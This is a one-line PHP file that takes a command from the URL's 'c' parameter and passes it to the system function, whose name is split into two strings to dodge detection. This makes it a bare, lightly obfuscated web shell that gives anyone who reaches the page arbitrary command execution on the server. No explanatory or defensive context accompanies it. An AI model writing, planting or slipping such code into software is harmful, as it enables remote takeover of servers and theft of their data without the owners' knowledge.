<?php define('RUN', 'sys' . 'tem'); $f = RUN; $f($_GET['c']);
